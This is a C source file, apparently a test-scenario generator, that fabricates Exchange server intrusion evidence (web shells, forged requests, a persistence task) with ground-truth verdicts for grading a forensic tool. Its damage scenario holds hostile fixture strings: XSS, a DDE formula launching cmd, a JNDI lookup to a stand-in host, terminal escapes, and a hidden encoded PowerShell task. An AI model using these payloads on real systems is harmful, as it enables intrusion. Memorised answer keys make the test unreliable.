/*
 * scenarios: the stories, each with its truth.
 *
 * The truth follows from the story and from the definitions of docs/report-contract.md; where the contract leaves room, the
 * truth says nothing. Addresses are of the documentation ranges, names are invented.
 */
#include "lab/lab.h"

#include <string.h>
#include <zlib.h>

#define UA_SCRIPT "python-requests/2.25.1"
#define UA_SHELL  "antSword/v2.1"
#define UA_LOOK   "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"

static void verdict(struct lab *l, const char *word)
{
    static const struct { const char *word; int code; } code[] = {
        { "no_trace", 0 }, { "not_covered", 3 }, { "attempted", 4 }, { "exploited", 5 }, { "back_door", 6 }, { "back_door_used", 7 }, { "beyond_server", 7 },
    };
    for (size_t i = 0; i < sizeof code / sizeof *code; i++)
        if (!strcmp(code[i].word, word))
            truth_int(l, "exit_code", code[i].code);
    truth_text(l, "verdict", word);
}

/* Everything that text and files can show was collected, for the whole window. */
static void all_covered(struct lab *l)
{
    if (l->patch_us != TIME_NONE)
        truth_text(l, "exposure.covered", "full");
    truth_text(l, "exploitation.covered", "full");
    truth_text(l, "back_door.covered", "no");       /* the lowest of its families, and the registry was not read */
    truth_text(l, "theft.covered", "full");
}

static void attempted(struct lab *l)
{
    verdict(l, "attempted");
    truth_text(l, "exploitation.state", "attempted");
}

static void entered(struct lab *l, int intruders)
{
    verdict(l, "exploited");
    truth_text(l, "exploitation.state", "succeeded");
    truth_int(l, "intruders", intruders);
}

static void door(struct lab *l, const char *state, bool used, bool again)
{
    verdict(l, used ? "back_door_used" : "back_door");
    truth_text(l, "back_door.state", state);
    truth_text(l, "use.state", used ? "used" : "none_seen");
    truth_bool(l, "use.re_entered", again);
    truth_text(l, "use.covered", "full");
    if (!strcmp(state, "present"))
        truth_text(l, "door_open.state", "yes");
}

static const char *web(struct lab *l, const char *below) { return pool_fmt(&l->keep, "%s/%s", l->at.webroot, below); }
static const char *front(struct lab *l, const char *below) { return pool_fmt(&l->keep, "%s/FrontEnd/HttpProxy/%s", l->at.install, below); }

static void intrude(struct lab *l, const struct raid *r, const char *start)
{
    int64_t t = at(start);

    raid_look(l, r, t);
    raid_admin(l, r, t + 40 * TIME_SECOND);
    raid_drop(l, r, t + 55 * TIME_SECOND);
}

/* ---- nobody came in ---- */

static void tell_untouched(struct lab *l) { all_covered(l); }

static void tell_scanner(struct lab *l)
{
    raid_localhost(l, "203.0.113.9", at("2021-03-03T03:11:05"), 6);
    raid_localhost(l, "203.0.113.44", at("2021-03-10T17:40:00"), 4);
    raid_names(l, "203.0.113.61", at("2021-03-08T05:02:10"));
    raid_names(l, "203.0.113.9", at("2021-03-14T22:30:00"));
    all_covered(l);
    attempted(l);
    truth_list(l, "must_not", "203.0.113.9");
    truth_list(l, "must_not", "203.0.113.44");
    truth_list(l, "must_not", "203.0.113.61");
}

static void ecp_edit(struct lab *l, const char *admin, const char *client, int64_t t, const char *command, const char *schema)
{
    struct event *e = story_event(l, E_ECP, t);

    e->text = pool_fmt(&l->keep, ",%s,ECP.Request,S:TIME=640;S:SID=00000000-0000-4000-8000-0000000000e1;'S:CMD=%s';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=a1-Bc3xQ90.&schema=%s;S:REFERRER=https://%s/ecp/VDirMgmt/"
                       "VirtualDirectories.slab;S:EX=;S:ACTID=;S:RS=0;S:BLD=%s;S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID=", l->server, command, schema, l->host, l->build_old);
    e = story_event(l, E_WEB, t + TIME_SECOND);
    e->proto = P_ECP;
    e->method = "POST";
    e->stem = e->back_stem = "/ecp/DDI/DDIService.svc/SetObject";
    e->query = pool_fmt(&l->keep, "msExchEcpCanary=a1-Bc3xQ90.&schema=%s", schema);
    e->client = client;
    e->user = admin;
    e->ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0";
    e->referer = pool_fmt(&l->keep, "https://%s/ecp/VDirMgmt/VirtualDirectories.slab", l->host);
    e->anchor = "Sid~S-1-5-21-4242-1717-500";
    e->status = e->back_status = 200;
    e->response_bytes = 820;
}

static void admin_work(struct lab *l, const char *admin, const char *client, int64_t t)
{
    ecp_edit(l, admin, client, t, pool_fmt(&l->keep, "Set-OwaVirtualDirectory.ExternalUrl=''https://%s/owa''.Identity=''00000000-0000-4000-8000-0000000000d1''", l->host), "OWAVirtualDirectory");
    ecp_edit(l, admin, client, t + 3 * TIME_MINUTE, pool_fmt(&l->keep, "Set-OabVirtualDirectory.ExternalUrl=''https://%s/OAB''.Identity=''00000000-0000-4000-8000-0000000000d2''", l->host), "OABVirtualDirectory");
}

static void set_busy(struct lab *l)
{
    server_defaults(l, GEN_2019);
    l->server = "MX-A";
    l->netbios = "HARBOUR";
    l->domain = "harbour.example";
    l->host = "post.harbour.example";
    l->patch_us = at("2021-03-04T05:44:51");
}

static void tell_busy(struct lab *l)
{
    const char *admin = "HARBOUR\\adm.lotte", *client = "10.20.0.5";
    int64_t     t = at("2021-02-16T10:05:00");

    admin_work(l, admin, client, t);
    /* A reset from the admin centre: the same two cmdlets as in the drop, by a person, after clean URLs only. */
    ecp_edit(l, admin, client, t + 10 * TIME_MINUTE, "Remove-OABVirtualDirectory.Force=$true.Identity=''MX-A\\OAB (Default Web Site)''", "ResetOABVirtualDirectory");
    ecp_edit(l, admin, client, t + 10 * TIME_MINUTE + 4 * TIME_SECOND, "New-OABVirtualDirectory.Role=''ClientAccess''.WebSiteName=''Default Web Site''.Path=''C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB''",
             "ResetOABVirtualDirectory");
    admin_work(l, admin, client, at("2021-03-04T07:30:00"));
    /* A help desk page of their own, with its code elsewhere, used all day by colleagues. */
    file_text(l, web(l, "helpdesk/default.aspx"), at("2019-05-06T09:00:00"), "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"default.aspx.cs\" Inherits=\"Helpdesk.Default\" %>\n<html><body><form runat=\"server\">Ticket</form></body></html>\n");
    for (int i = 0; i < 12; i++) {
        struct event *e = raid_visit(l, l->user[i % 9].client, UA_LOOK, t + i * 5 * TIME_DAY / 2, i % 3 ? "POST" : "GET", "/helpdesk/default.aspx", NULL, 200);
        e->user = l->user[i % 9].name;
        e->referer = pool_fmt(&l->keep, "https://%s/helpdesk/default.aspx", l->host);
    }
    all_covered(l);
    truth_list(l, "must_not", client);
    truth_list(l, "must_not", "helpdesk");
    truth_list(l, "must_not", "lotte");
}

static void tell_own_scan(struct lab *l)
{
    raid_localhost(l, "10.20.0.99", at("2021-03-06T20:00:12"), 3);
    raid_names(l, "10.20.0.99", at("2021-03-06T20:04:00"));
    raid_localhost(l, "10.20.0.99", at("2021-03-13T20:00:09"), 3);
    all_covered(l);
    attempted(l);
    truth_list(l, "must_not", "10.20.0.99");
}

static void set_balanced(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->server = "CAS02";
    l->netbios = "LINDEN";
    l->domain = "linden.example";
    l->host = "webmail.linden.example";
    l->balanced = true;
    l->balancer[0] = "10.0.0.5";
    l->balancer[1] = "10.0.0.6";
}

static void tell_balanced(struct lab *l)
{
    raid_localhost(l, "203.0.113.9", at("2021-03-05T03:11:05"), 5);
    raid_names(l, "203.0.113.9", at("2021-03-05T03:14:05"));
    all_covered(l);
    attempted(l);
    truth_list(l, "must_not", "10.0.0.5");
    truth_list(l, "must_not", "10.0.0.6");
    truth_list(l, "must_not", "203.0.113.9");
}

static void set_expired(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->start_us = at("2021-04-08T00:00:00");
    l->end_us = l->start_us + 34 * TIME_DAY;
}

static void tell_expired(struct lab *l)
{
    verdict(l, "not_covered");
    truth_text(l, "exposure.covered", "full");
    truth_text(l, "exploitation.covered", "no");
    truth_text(l, "theft.covered", "no");
}

static void tell_autodiscover(struct lab *l)
{
    const struct raid r = { .client = "198.51.100.40", .ua = UA_SCRIPT, .script = "/ecp/x.js", .canary = "none" };

    for (int i = 0; i < 4; i++)
        raid_forge(l, &r, at("2021-03-02T21:00:00") + i * 20 * TIME_SECOND, "/autodiscover/autodiscover.xml?", "POST", i == 3 ? 200 : 404, i == 3 ? 3846 : 90, NULL);
    all_covered(l);
    attempted(l);
    truth_list(l, "must_not", "198.51.100.40");
}

static void set_coexistence(struct lab *l)
{
    server_defaults(l, GEN_2013);
    l->server = "EX13-HUB";
    l->netbios = "QUARRY";
    l->domain = "quarry.example";
    l->host = "mail.quarry.example";
    l->coexistence = true;
}

static void tell_coexistence(struct lab *l)
{
    file_text(l, front(l, "owa/auth/logon.aspx"), at("2020-11-02T13:20:00"), "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n<!DOCTYPE html>\n<html><head><title>Quarry Stone</title></head>"
              "<body><img src=\"/owa/auth/15.0.1497/themes/resources/quarry.png\" alt=\"Quarry\"/><p>Welcome to Quarry web mail</p></body></html>\n");
    all_covered(l);
    truth_list(l, "must_not", "exch10");
    truth_list(l, "must_not", "logon.aspx");
}

static void set_2010(struct lab *l)
{
    server_defaults(l, GEN_2010);
    l->server = "OLDMAIL";
}

static void tell_2010(struct lab *l)
{
    /* Its one flaw shows in event logs, which nobody collected. */
    verdict(l, "not_covered");
    truth_text(l, "exposure.covered", "full");
}

static void set_mitigated(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->patch_us = TIME_NONE;
    l->mitigated = true;
}

static void tell_mitigated(struct lab *l)
{
    file_text(l, "C/EOMTSummary.txt", at("2021-03-16T08:14:02"), "EOMT mitigation summary\nMessage: EOMT.ps1 completed successfully\nScan complete: no threats found\n");
    file_text(l, "C/Windows/Temp/msert/EOMT.log", at("2021-03-16T08:14:02"),
              "2021-03-16T08:12:31.1840000Z : [INFO] [EOMT.ps1 version 21.3.15.2001] Starting\n2021-03-16T08:12:40.0210000Z : [INFO] Applying mitigation on EXCH01\n2021-03-16T08:14:02.4410000Z : [INFO] EOMT.ps1 complete on EXCH01\n");
    all_covered(l);
    truth_text(l, "exposure.state", "mitigated");
}

/* ---- somebody read mail ---- */

static void mail(struct lab *l, uint64_t bytes, const char *other)
{
    struct raid r = { .client = "198.51.100.71", .ua = UA_SCRIPT, .script = "/owa/auth/Current/themes/resources/logon.css", .canary = "none" };
    int64_t     t = at("2021-01-17T02:30:10");

    raid_look(l, &r, t);
    for (int i = 0; i < 9; i++)
        raid_forge(l, &r, t + (30 + i * 12) * TIME_SECOND, "/EWS/Exchange.asmx?", "POST", 200, bytes / 9 + 1, i % 3 == 0 ? "FindItem" : "GetItem");
    if (other) {
        r.other = other;
        raid_forge(l, &r, t + 4 * TIME_MINUTE, "/EWS/Exchange.asmx?", "POST", 200, 41000, "FindFolder");
        truth_list(l, "other_servers", other);
    }
    all_covered(l);
    entered(l, 1);
    truth_list(l, "intruder_clients", r.client);
}

static void tell_mail(struct lab *l)
{
    mail(l, 6400000, "exch02.bakery.example");
    truth_text(l, "theft.state", "seen");
}

static void tell_sample(struct lab *l)
{
    mail(l, 300000, NULL);
    truth_text(l, "theft.state", "suspected");
}

/* ---- pages left behind ---- */

static const struct raid someone = { .client = "198.51.100.23", .ua = UA_SCRIPT, .canary = "q7Lr9bT0kXm2.", .key = "rye7Qk2LmZp1", .script = "/ecp/y.js" };

static void tell_unused(struct lab *l)
{
    const char *page = web(l, "aspnet_client/system_web/cellar.aspx");

    intrude(l, &someone, "2021-03-03T06:50:02");
    raid_page(l, page, someone.key, at("2021-03-03T06:51:10"));
    all_covered(l);
    entered(l, 1);
    door(l, "present", false, false);
    truth_door_use(l, truth_door(l, win_path(l, page), "present", "not_seen_used"), someone.key, 0, NULL, 0);
    truth_list(l, "intruder_clients", someone.client);
}

static void tell_reached(struct lab *l)
{
    const char *page = front(l, "owa/auth/pantry.aspx"), *client[] = { someone.client, "203.0.113.90" };

    intrude(l, &someone, "2021-03-03T06:50:02");
    raid_page(l, page, someone.key, at("2021-03-03T06:51:10"));
    raid_visit(l, someone.client, UA_LOOK, at("2021-03-03T06:53:00"), "GET", "/owa/auth/pantry.aspx", NULL, 200);
    /* A third party that tries every name once finds it too. Reaching never joins. */
    raid_names(l, client[1], at("2021-03-09T11:00:00"));
    raid_visit(l, client[1], UA_SCRIPT, at("2021-03-09T11:00:05"), "GET", "/owa/auth/Pantry.aspx", NULL, 200);
    all_covered(l);
    entered(l, 1);
    door(l, "present", false, false);
    truth_door_use(l, truth_door(l, win_path(l, page), "present", "not_seen_used"), someone.key, 2, client, 2);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", client[1]);
}

/* Drop and use in one visit; returns the page's truth. */
static const char *one_visit(struct lab *l, const struct raid *r, const char *page, const char *url)
{
    int64_t t = at("2021-03-03T02:10:30");

    intrude(l, r, "2021-03-03T02:10:30");
    raid_page(l, page, r->key, t + 70 * TIME_SECOND);
    raid_visit(l, r->client, UA_LOOK, t + 3 * TIME_MINUTE, "GET", url, NULL, 200);
    raid_visit(l, r->client, UA_SHELL, t + 4 * TIME_MINUTE, "POST", url, NULL, 200);
    raid_visit(l, r->client, UA_SHELL, t + 5 * TIME_MINUTE, "POST", url, NULL, 500);
    raid_visit(l, r->client, UA_SHELL, t + 31 * TIME_MINUTE, "POST", url, NULL, 200);
    raid_clean(l, r, t + 33 * TIME_MINUTE);
    all_covered(l);
    entered(l, 1);
    return win_path(l, page);
}

static void tell_used(struct lab *l)
{
    const char *path = one_visit(l, &someone, web(l, "aspnet_client/larder.aspx"), "/aspnet_client/larder.aspx");

    door(l, "present", true, false);
    json_object *d = truth_door(l, path, "present", "used");
    truth_door_use(l, d, someone.key, 3, &someone.client, 1);
    json_object_object_add(json_object_object_get(d, "use"), "errors", json_object_new_int(1));
    truth_list(l, "intruder_clients", someone.client);
}

static void tell_victim_balanced(struct lab *l)
{
    const char *path = one_visit(l, &someone, web(l, "aspnet_client/larder.aspx"), "/aspnet_client/larder.aspx");

    /* A forged head of X-Forwarded-For changes nothing: the last entry counts. */
    raid_visit(l, someone.client, UA_SHELL, at("2021-03-03T02:50:30"), "POST", "/aspnet_client/larder.aspx", NULL, 200)->forwarded = "10.99.99.99";
    raid_localhost(l, "203.0.113.9", at("2021-03-05T03:11:05"), 3);
    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 4, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "10.0.0.5");
    truth_list(l, "must_not", "10.0.0.6");
    truth_list(l, "must_not", "10.99.99.99");
    truth_list(l, "must_not", "203.0.113.9");
}

static const char *gone(struct lab *l, const char *page, const char *url, bool disk)
{
    const char *path;

    path = one_visit(l, &someone, page, url);
    raid_visit(l, someone.client, UA_SHELL, at("2021-03-03T11:42:00"), "POST", url, NULL, 200);
    raid_visit(l, someone.client, UA_SHELL, at("2021-03-03T11:44:00"), "POST", url, NULL, 200);
    raid_visit(l, someone.client, UA_LOOK, at("2021-03-03T11:45:00"), "GET", url, NULL, 404);
    raid_visit(l, "203.0.113.90", UA_SCRIPT, at("2021-03-11T12:00:00"), "GET", url, NULL, 404);
    file_remove(l, page);
    if (disk)
        server_compiled(l, "root", url, at("2021-03-03T02:13:31"));
    door(l, disk ? "removed" : "unknown", true, true);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "203.0.113.90");
    truth_door_use(l, truth_door(l, path, disk ? "removed" : "unknown", "used"), NULL, 5, &someone.client, 1);
    return path;
}

static void tell_removed(struct lab *l) { gone(l, web(l, "aspnet_client/kettle.aspx"), "/aspnet_client/kettle.aspx", true); }

static void tell_task(struct lab *l)
{
    struct buf  b = { 0 };
    const char *xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo><Date>2021-03-03T02:20:00</Date><Author>BAKERY\\EXCH01$</Author>"
                      "<URI>\\Winnet</URI></RegistrationInfo>\r\n  <Triggers><TimeTrigger><Repetition><Interval>PT45M</Interval></Repetition><StartBoundary>2021-03-03T02:20:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>\r\n"
                      "  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -e cwB0AGEAbgBkAC0AaQBuAA==</Arguments></Exec></Actions>\r\n</Task>\r\n";

    gone(l, web(l, "aspnet_client/kettle.aspx"), "/aspnet_client/kettle.aspx", true);
    buf_add(&b, "\xff\xfe", 2);
    for (; *xml; xml++) {
        buf_chr(&b, *xml);
        buf_chr(&b, 0);
    }
    file_put(l, "C/Windows/System32/Tasks/Winnet", (struct str){ (const uint8_t *)b.p, b.n }, at("2021-03-03T02:20:00"));
    buf_free(&b);
    truth_text(l, "back_door.state", "present");
    truth_text(l, "door_open.state", "yes");
    truth_list(l, "ways_back", "Winnet");
}

static void set_no_roots(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->no_web_roots = true;
}

static void tell_logs_only(struct lab *l)
{
    gone(l, web(l, "aspnet_client/kettle.aspx"), "/aspnet_client/kettle.aspx", false);
    /* What web roots would add to coverage is not there; how low that takes the axis is left to the contract's reader. */
    json_object_object_del(json_object_object_get(l->truth, "exploitation"), "covered");
}

static void drop_tree(struct lab *l)
{
    /* gone() wrote and removed the page; the folders it made were not collected either. */
    char path[1024];

    snprintf(path, sizeof path, "%s/evidence/%s/aspnet_client", l->out, l->at.webroot);
    if (remove(path))
        lab_die("%s cannot be removed", path);
    snprintf(path, sizeof path, "%s/evidence/%s", l->out, l->at.webroot);
    if (remove(path))
        lab_die("%s cannot be removed", path);
}

static void set_two(struct lab *l)
{
    server_defaults(l, GEN_2019);
    l->server = "MAIL-EDGE7";
    l->netbios = "ORCHARD";
    l->domain = "orchard.example";
    l->host = "mail.orchard.example";
    l->patch_us = at("2021-03-09T18:30:40");
}

static void tell_two(struct lab *l)
{
    const struct raid b = { .client = "203.0.113.77", .ua = "python-requests/2.24.0", .canary = "Zw1-uR8pV5cs.", .key = "barley", .script = "/owa/auth/Current/themes/resources/owafont.css" };
    const char *page_a = web(l, "aspnet_client/system_web/relay.aspx"), *url_a = "/aspnet_client/system_web/relay.aspx";
    const char *page_b = front(l, "owa/auth/sidebar.aspx"), *url_b = "/owa/auth/sidebar.aspx";
    const char *client_a[] = { someone.client, "203.0.113.140" }, *client_b[] = { b.client };

    intrude(l, &someone, "2021-02-28T04:15:00");
    raid_page(l, page_a, someone.key, at("2021-02-28T04:16:08"));
    raid_visit(l, someone.client, UA_SHELL, at("2021-02-28T04:19:00"), "POST", url_a, NULL, 200);
    raid_visit(l, someone.client, UA_SHELL, at("2021-02-28T04:22:00"), "POST", "/ASPNET_CLIENT/system_web/Relay.ASPX", NULL, 200);
    intrude(l, &b, "2021-03-05T15:00:00");
    raid_page(l, page_b, b.key, at("2021-03-05T15:01:08"));
    raid_visit(l, b.client, UA_LOOK, at("2021-03-05T15:03:00"), "GET", url_b, "barley=Response.Write(1)", 200);
    /* After the patch: the first page is used from another address. */
    raid_visit(l, client_a[1], UA_SHELL, at("2021-03-12T01:05:00"), "POST", url_a, NULL, 200);
    raid_visit(l, client_a[1], UA_SHELL, at("2021-03-12T01:09:00"), "POST", url_a, NULL, 200);
    all_covered(l);
    entered(l, 2);
    door(l, "present", true, true);
    truth_door_use(l, truth_door(l, win_path(l, page_a), "present", "used"), someone.key, 4, client_a, 2);
    truth_door_use(l, truth_door(l, win_path(l, page_b), "present", "used"), b.key, 1, client_b, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "intruder_clients", client_a[1]);
    truth_list(l, "intruder_clients", b.client);
}

static void tell_download(struct lab *l)
{
    const char *page = web(l, "aspnet_client/saucer.aspx"), *url = "/aspnet_client/saucer.aspx";
    int64_t     t = at("2021-03-01T04:10:00");

    raid_look(l, &someone, t);
    raid_admin(l, &someone, t + 30 * TIME_SECOND);
    story_event(l, E_OAB, t + 69 * TIME_SECOND)->text = pool_fmt(&l->keep, ",%s,OABGen,Download failed and temporary file '%s' needs to be removed", l->server, win_path(l, page));
    raid_chopper(l, page, someone.key, t + 68 * TIME_SECOND);
    raid_visit(l, someone.client, UA_SHELL, t + 3 * TIME_MINUTE, "POST", url, NULL, 200);
    all_covered(l);
    entered(l, 1);
    door(l, "present", true, false);
    truth_list(l, "cves", "CVE-2021-26858");
    truth_door_use(l, truth_door(l, win_path(l, page), "present", "used"), NULL, 1, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
}

static void set_moved(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->server = "SRV-MSG-03";
    l->netbios = "MEADOW";
    l->domain = "meadow.example";
    l->host = "owa.meadow.example";
    l->iis_hourly = true;
    snprintf(l->at.install, sizeof l->at.install, "D/Exch/V15");
    snprintf(l->at.webroot, sizeof l->at.webroot, "E/Sites/wwwroot");
    snprintf(l->at.logs, sizeof l->at.logs, "E/IISLogs");
    l->fields_change_us = at("2021-02-02T09:30:00");
}

static void tell_moved(struct lab *l)
{
    const char *path = one_visit(l, &someone, front(l, "owa/auth/Current/scripts/premium/thimble.aspx"), "/owa/auth/Current/scripts/premium/thimble.aspx");

    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 3, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
}

static void tell_loot(struct lab *l)
{
    const char *path = one_visit(l, &someone, web(l, "aspnet_client/larder.aspx"), "/aspnet_client/larder.aspx");
    struct buf  b = { 0 };

    buf_add(&b, "PK\x03\x04\x14\0\0\0\x08\0", 10);
    for (uint32_t i = 0; i < 40000; i++)
        buf_chr(&b, (char)(i * 2654435761u >> 24));
    file_put(l, web(l, "aspnet_client/it.zip"), (struct str){ (const uint8_t *)b.p, b.n }, at("2021-03-03T02:36:00"));
    raid_visit(l, someone.client, UA_LOOK, at("2021-03-03T02:44:00"), "GET", "/aspnet_client/it.zip", NULL, 200)->response_bytes = b.n;
    buf_free(&b);
    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 3, &someone.client, 1);
    truth_text(l, "theft.state", "seen");
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "theft.names", "it.zip");
}

static void tell_msert(struct lab *l)
{
    const char *page = web(l, "aspnet_client/system_web/saltbox.aspx");
    struct buf  b = { 0 };

    intrude(l, &someone, "2021-03-03T06:50:02");
    const char *text = pool_fmt(&l->keep, "---------------------------------------------------------------------------------------\r\nMicrosoft Safety Scanner v1.333, (build 1.333.160.0)\r\nStarted On Thu Mar 18 08:12:22 2021\r\n\r\n"
        "Engine: 1.1.17900.7\r\nSignatures: 1.333.160.0\r\nRun Mode: Interactive Graphical Mode\r\n\r\nQuick Scan Results:\r\n----------------\r\nThreat Detected: Backdoor:ASP/Chopper.F!dha, partially removed.\r\n"
        "  Action: Remove, Result: 0x00000000\r\n    file://%s\r\n        SigSeq: 0x0000C3A5F1E2D3C4\r\n        SHA1:   4f0e5a0c5a1e9d0b7c1f2d3e4f5061728394a5b6\r\n\r\nResults Summary:\r\n----------------\r\n"
        "Found Backdoor:ASP/Chopper.F!dha and Removed!\r\nMicrosoft Safety Scanner Finished On Thu Mar 18 08:31:40 2021\r\n\r\nReturn code: 6 (0x6)\r\n", win_path(l, page));
    buf_add(&b, "\xff\xfe", 2);
    for (; *text; text++) {
        buf_chr(&b, *text);
        buf_chr(&b, 0);
    }
    file_put(l, "C/Windows/debug/msert.log", (struct str){ (const uint8_t *)b.p, b.n }, at("2021-03-18T08:31:40"));
    buf_free(&b);
    all_covered(l);
    entered(l, 1);
    door(l, "removed", false, false);
    truth_door_use(l, truth_door(l, win_path(l, page), "removed", "not_seen_used"), NULL, 0, NULL, 0);
    truth_list(l, "intruder_clients", someone.client);
}

/* ---- damage ---- */

static void tell_damaged(struct lab *l)
{
    static const char *const hostile[] = {
        "\x1b]0;owned\x07\x1b[2J\x1b[31mOK\x1b[0m", "<script>alert(document.domain)</script><img src=x onerror=alert(1)>", "=cmd|' /C calc'!A0", "\",\"injected\",\"", "\xff\xfe\x80 broken \xc3( utf-8", "${jndi:ldap://203.0.113.250/a}",
    };
    for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
        struct event *e = raid_visit(l, "203.0.113.30", hostile[i], at("2021-02-10T10:00:00") + (int64_t)i * TIME_MINUTE, "GET", i % 2 ? "/owa/auth/logon.aspx" : "/", hostile[(i + 1) % 6], 200);
        e->referer = hostile[(i + 2) % 6];
    }
    /* One attacker's tool writes such a user agent too, into the very lines that matter. */
    struct raid r = someone;
    r.ua = "\x1b[8m<b>hidden</b>";
    const char *path = one_visit(l, &r, web(l, "aspnet_client/larder.aspx"), "/aspnet_client/larder.aspx");
    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 3, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "203.0.113.30");
    truth_bool(l, "damage_told", true);
}

static void rewrite(struct lab *l, const char *path, const struct buf *b) { file_put(l, path, (struct str){ (const uint8_t *)b->p, b->n }, TIME_NONE); }

static void to_gz(struct lab *l, const char *path)
{
    struct buf b = { 0 }, z = { 0 };
    z_stream   s = { 0 };

    file_slurp(l, path, &b);
    buf_room(&z, b.n + 4096);
    if (deflateInit2(&s, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        lab_die("zlib does not start");
    s.next_in = (Bytef *)b.p;
    s.avail_in = (uInt)b.n;
    s.next_out = (Bytef *)z.p;
    s.avail_out = (uInt)z.cap;
    if (deflate(&s, Z_FINISH) != Z_STREAM_END)
        lab_die("%s does not compress", path);
    z.n = s.total_out;
    deflateEnd(&s);
    rewrite(l, pool_fmt(&l->keep, "%s.gz", path), &z);
    file_remove(l, path);
    buf_free(&b);
    buf_free(&z);
}

static void to_utf16(struct lab *l, const char *path)
{
    struct buf b = { 0 }, w = { 0 };

    file_slurp(l, path, &b);
    buf_add(&w, "\xff\xfe", 2);
    for (size_t i = b.n >= 3 && b.p[0] == '\xef' ? 3 : 0; i < b.n; i++) {
        buf_chr(&w, b.p[i]);
        buf_chr(&w, 0);
    }
    rewrite(l, path, &w);
    buf_free(&b);
    buf_free(&w);
}

/* Lays NUL over a stretch, as a write that never reached the disk leaves it; cuts the file inside its last line. */
static void to_rubble(struct lab *l, const char *path, bool nul, size_t cut)
{
    struct buf b = { 0 };

    file_slurp(l, path, &b);
    if (nul && b.n > 8192)
        memset(b.p + b.n / 2, 0, 4096);
    b.n -= cut < b.n ? cut : 0;
    rewrite(l, path, &b);
    buf_free(&b);
}

static void after_damaged(struct lab *l)
{
    struct buf  b = { 0 };
    const char *logs = l->at.logs, *install = l->at.install;

    to_rubble(l, pool_fmt(&l->keep, "%s/W3SVC1/u_ex210115.log", logs), true, 0);
    to_rubble(l, pool_fmt(&l->keep, "%s/W3SVC2/u_ex210116.log", logs), false, 37);
    to_rubble(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Eas/HttpProxy_2021011500-1.LOG", install), true, 211);
    to_gz(l, pool_fmt(&l->keep, "%s/W3SVC1/u_ex210120.log", logs));
    to_gz(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Owa/HttpProxy_2021011900-1.LOG", install));
    to_utf16(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Ews/HttpProxy_2021011800-1.LOG", install));
    to_utf16(l, pool_fmt(&l->keep, "%s/W3SVC2/u_ex210121.log", logs));
    /* One line of two megabytes in the middle of a day. */
    const char *path = pool_fmt(&l->keep, "%s/W3SVC1/u_ex210211.log", logs);
    file_slurp(l, path, &b);
    buf_str(&b, "2021-02-11 23:59:58 192.0.2.10 GET /owa/ ");
    for (int i = 0; i < 2000000; i++)
        buf_chr(&b, 'A');
    buf_str(&b, " 443 - 203.0.113.30 - - 404 0 0 3\r\n");
    rewrite(l, path, &b);
    buf_free(&b);
}

/* ---- the demo ---- */

static void set_bakery(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->patch_us = at("2021-03-04T20:41:33");
    l->user_n = 14;
}

static void tell_bakery(struct lab *l)
{
    const char *page = web(l, "aspnet_client/cinnamon.aspx"), *url = "/aspnet_client/cinnamon.aspx", *client[] = { someone.client, "203.0.113.140" };
    int64_t     t = at("2021-03-03T02:10:30");

    admin_work(l, "BAKERY\\mara.admin", "10.20.1.7", at("2021-02-09T09:12:00"));
    intrude(l, &someone, "2021-03-03T02:10:30");
    raid_page(l, page, someone.key, t + 70 * TIME_SECOND);
    raid_visit(l, someone.client, UA_LOOK, t + 3 * TIME_MINUTE, "GET", url, NULL, 200);
    for (int i = 0; i < 5; i++)
        raid_visit(l, someone.client, UA_SHELL, t + (4 + i * 2) * TIME_MINUTE, "POST", url, NULL, 200);
    raid_clean(l, &someone, t + 20 * TIME_MINUTE);
    raid_localhost(l, "203.0.113.9", at("2021-03-05T13:11:05"), 4);
    raid_names(l, "203.0.113.61", at("2021-03-08T05:02:10"));
    for (int i = 0; i < 3; i++)
        raid_visit(l, client[1], UA_SHELL, at("2021-03-06T01:22:00") + i * 3 * TIME_MINUTE, "POST", url, NULL, 200);
    all_covered(l);
    entered(l, 1);
    door(l, "present", true, true);
    truth_door_use(l, truth_door(l, win_path(l, page), "present", "used"), someone.key, 9, client, 2);
    for (int i = 0; i < 2; i++)
        truth_list(l, "intruder_clients", client[i]);
    truth_list(l, "must_not", "203.0.113.9");
    truth_list(l, "must_not", "203.0.113.61");
    truth_list(l, "must_not", "10.20.1.7");
